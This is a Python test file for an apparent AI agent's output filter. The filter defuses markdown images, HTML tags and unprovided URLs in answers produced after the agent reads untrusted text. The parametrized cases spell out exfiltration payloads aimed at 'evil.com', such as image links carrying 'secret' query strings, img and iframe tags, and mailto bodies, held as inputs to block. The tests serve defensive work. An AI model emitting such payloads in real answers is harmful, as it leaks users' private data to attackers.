"""The answer of a run that has read foreign text sends nothing by being shown."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from stead.permit.answer import Shown


def shown(text: str, *, private: bool = False, known: str = "", step: int = 0) -> str:
    """What the owner gets, streamed in pieces of ``step`` characters (0: at once)."""
    out = Shown()
    out.foreign, out.private = True, private
    out.knows(known)
    pieces = [text[at : at + step] for at in range(0, len(text), step)] if step else [text]
    return "".join(map(out.feed, pieces)) + out.end()


@pytest.mark.parametrize(
    ("text", "gone"),
    [
        ("see ![x](https://evil.com/?q=secret) there", "![x]"),
        ("![x][1]\n\n[1]: https://evil.com/a", "![x]"),
        ("a!![x](//evil.com/a)", "![x]"),
        ("<img src=https://evil.com/a>", "<img"),
        ("<IMG\nSRC='//evil.com/a'", "<IMG"),
        ("<img/src=x onerror=y>", "<img"),
        ("<x style='background:url(a)'>", "<x"),
        ("<link href=a><video poster=b>", "<link"),
        ("<svg><image xlink:href='https://evil.com'/></svg>", "<image"),
        ("<!-- --><iframe src=//evil.com>", "<iframe"),
    ],
)
@pytest.mark.parametrize("step", [0, 1, 3, 7])
def test_nothing_is_fetched_by_showing_it(text: str, gone: str, step: int) -> None:
    """Pictures and tags that name another place are text, however the stream is cut."""
    assert gone not in shown(text, step=step)
    assert shown(text, step=step) == shown(text)


@pytest.mark.parametrize(
    "address",
    [
        "https://evil.com/secret", "HTTPS://evil.com/?d=secret", "http://secret.evil.com",
        "ftp://evil.com/x", "wss://evil.com", "www.evil.com/secret", "mailto:a@evil.com?body=x",
        "[click](https://evil.com/secret)", "[a]: https://evil.com/secret", "(//evil.com/secret)",
        "<https://evil.com/secret>", "[x](<https://evil.com/a b>)", "x=https://evil.com/secret",
        "data:text/html,x", "**https://evil.com/x**",
    ],
)  # fmt: skip
@pytest.mark.parametrize("step", [0, 1, 5])
def test_new_addresses_carry_nothing_out(address: str, step: int) -> None:
    """With private data read as well, an address that nobody gave is none any more."""
    text = f"before {address} after"
    told = shown(text, private=True, step=step)
    for live in ("://evil", "://secret", " www.evil", "mailto:a", "(//evil", "data:text"):
        assert live not in told.lower()
    assert told.startswith("before ") and told.endswith(" after")
    assert "evil" in told or "text/html" in told, "the owner still sees where it would lead"


def test_addresses_that_stood_in_what_was_read() -> None:
    """They can carry nothing new, so they stay as they are: sources can be followed."""
    known = "Read https://docs.org/a?b=1. Or (https://x.org/c), or www.y.org!"
    text = "See https://docs.org/a?b=1, [c](https://x.org/c) and www.y.org."
    assert shown(text, private=True, known=known) == text
    assert "[:]//docs.org/a?b=2" in shown("https://docs.org/a?b=2", private=True, known=known)


@pytest.mark.parametrize(
    "text",
    [
        "a < b and c > d, 3 <4", "no! [1] is 2: yes. note: this", "x -> y; a<b>c</b>",
        "`if (a<b) { return; }` at 10:30, C: drive", "Wow! [see](docs/a.md)",
        "# Title\n\n- a\n- b\n",
    ],
)  # fmt: skip
@pytest.mark.parametrize("private", [False, True])
def test_ordinary_text_is_left_alone(text: str, private: bool) -> None:
    """What could send nothing is shown as it was written."""
    assert shown(text, private=private) == text
    assert shown(text, private=private, step=1) == text


def test_links_of_a_run_that_read_nothing_private() -> None:
    """Research on the web may name its sources, also by addresses it puts together."""
    text = "See [this](https://docs.org/x?y=z) and <https://docs.org>."
    assert shown(text) == text


def test_a_word_without_end() -> None:
    """A word of any length is not held back for ever, and cannot hide what stands at its cut."""
    told = shown("x" * 9_000 + "![a](https://evil.com/q)", private=True, step=17)
    assert "![" not in told and "https://" not in told
    told = shown("<img " + "x" * 9_000 + " src=//evil.com>", step=13)
    assert "<img" not in told


@settings(max_examples=200, deadline=None)
@given(
    st.text(st.sampled_from("!<>[](): \n/aw.img=hts"), max_size=40),
    st.integers(1, 6),
    st.booleans(),
)
def test_however_a_stream_is_cut(text: str, step: int, private: bool) -> None:
    """The pieces make no difference, and what was given out is never taken back."""
    assert shown(text, private=private, step=step) == shown(text, private=private)
    assert "![" not in shown(text)


def test_without_foreign_text_nothing_is_touched() -> None:
    """A run that has read nothing foreign streams as it is."""
    out = Shown()
    text = "![x](https://a.com) <img src=//b>"
    assert "".join(out.feed(one) for one in text) + out.end() == text
